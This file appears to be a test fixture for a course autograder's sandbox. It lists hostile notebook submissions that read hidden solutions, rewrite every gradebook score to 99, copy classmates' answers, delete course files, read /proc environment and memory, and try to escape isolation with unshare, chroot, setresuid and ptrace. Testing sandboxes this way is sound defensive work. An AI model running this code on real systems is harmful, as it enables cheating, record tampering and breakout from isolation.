"""Reading and writing what is the instructor's: solutions, hidden tests, gradebook, other people's work."""

from hostile.submission import LOOT, PORT, Submission

PLACES = f"""import glob, os, pathlib, sys
def places():
    import course_lib
    start = [os.getcwd(), course_lib.__file__, *os.environ.values(), *sys.path]
    start += [link for link in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root/work")]
    for place in start:
        try:
            place = pathlib.Path(place).resolve()
            yield from [folder for folder in (place, *place.parents) if folder.is_dir()]
        except (OSError, ValueError):
            pass
def courses():
    return dict.fromkeys(p for p in places() if os.path.exists(p / "canary.txt"))
def loot(*what):
    print("{LOOT}", *what)
"""
SOLVE = """import re
for place in dict.fromkeys(places()):
    for path in [*place.glob("solutions/02_attention*.py"), *place.glob("02_attention*.py")]:
        try:
            text = path.read_text()
        except OSError:
            continue
        loot("read", path.name)
        for block in re.split(r"(?m)^# %%", text):
            if "BEGIN SOLUTION" in block and block.startswith(" exercise="):
                exec(block[block.index("def "):], globals())
"""
LINEAGE = """def lineage():
    pid = os.getppid()
    while pid > 0:
        yield pid
        with open(f"/proc/{pid}/stat") as file:
            pid = int(file.read().rsplit(")", 1)[1].split()[1])
"""

SUBMISSIONS = [
    Submission(
        "solutions_read",
        "Looks for the solutions and hidden tests in every folder that it can name, and runs the solutions.",
        PLACES + SOLVE,
        before="check_additive_attention",
    ),
    Submission(
        "gradebook_read",
        "Looks for `gradebook.db` and reads the names of its tables and indexes.",
        PLACES
        + """import sqlite3
for course in courses():
    if (course / "gradebook.db").exists():
        tables = sqlite3.connect(course / "gradebook.db").execute("select name from sqlite_master").fetchall()
        loot("gradebook", len(tables))
""",
    ),
    Submission(
        "gradebook_written",
        "Opens the gradebook and gives everybody 99 points, by sqlite3 and by plain writing.",
        PLACES
        + """import sqlite3
for course in courses():
    path = course / "gradebook.db"
    if path.exists():
        database = sqlite3.connect(path, timeout=5)
        database.execute("update grade set manual_score = 99, extra_credit = 1")
        database.commit()
        loot("gradebook written")
    for name in ("canary.txt", "solutions/02_attention_hidden.py"):
        with open(course / name, "a") as file:
            file.write("# was here\\n")
        loot("wrote", name)
""",
    ),
    Submission(
        "others_read",
        "Reads the submissions of its classmates and runs their answers.",
        PLACES
        + """import json
for course in courses():
    for path in course.glob("submitted/*/*/*.ipynb"):
        text = path.read_text()
        if path.parts[-3] == "others_read":
            continue
        loot("read", path.parts[-3])
        for cell in json.loads(text)["cells"]:
            if "".join(cell["source"]).startswith("def causal_mask"):
                exec("".join(cell["source"]), globals())
""",
        before="check_causal_mask",
    ),
    Submission(
        "folders_deleted",
        "Deletes files of the course with `!rm -f` and `os.remove` (here: the canary in it).",
        PLACES
        + """for course in courses():
    !rm -f {course}/canary.txt
    try:
        os.remove(course / "canary.txt")
    except FileNotFoundError:
        loot("deleted")
    except OSError:
        pass
    else:
        loot("deleted")
""",
    ),
    Submission(
        "process_files",
        "Reads environment, memory and folders of all processes in /proc, its own and its parents' first.",
        PLACES
        + LINEAGE
        + """if "COURSE_CANARY" in os.environ:
    loot("environment")
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        if b"COURSE_CANARY=" in open(path, "rb").read():
            loot("environment of", path)
    except OSError:
        pass
try:
    for pid in lineage():
        os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR))
        loot("memory of", pid)
except (OSError, ValueError):
    pass
""",
    ),
    Submission(
        "network",
        "Connects to services of this machine by TCP, UDP and Unix sockets.",
        PLACES
        + f"""import socket
def tried(kind, family, type_, address):
    try:
        with socket.socket(family, type_) as connection:
            connection.settimeout(3)
            connection.connect(address)
            connection.send(b"hello")
            loot(kind) if type_ == socket.SOCK_STREAM else None
    except OSError:
        pass
tried("tcp", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {PORT}))
tried("udp", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", {PORT}))
tried("abstract", socket.AF_UNIX, socket.SOCK_STREAM, "\\0canary-{PORT}")
for course in courses():
    tried("unix", socket.AF_UNIX, socket.SOCK_STREAM, str(course / "canary.sock"))
""",
    ),
    Submission(
        "out_of_the_box",
        "Tries to undo the isolation: remounts, new namespaces, other users, chroot, ptrace.",
        PLACES
        + LINEAGE
        + """import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x00020000) == 0:
    libc.mount(None, b"/", None, 4096 | 32, None)
    libc.umount2(b"/proc", 2)
for course in courses():
    libc.mount(None, str(course).encode(), None, 4096 | 32, None)
libc.setresuid(0, 0, 0)
libc.setgroups(0, None)
libc.chroot(b"/proc/1/root")
try:
    if libc.ptrace(16, next(lineage()), 0, 0) == 0:
        libc.ptrace(17, os.getppid(), 0, 0)
        loot("traces its parent")
except (OSError, StopIteration):
    pass
for course in courses():
    try:
        open(course / "canary.txt", "r+").write("escaped")
        loot("escaped")
    except OSError:
        pass
""",
    ),
]
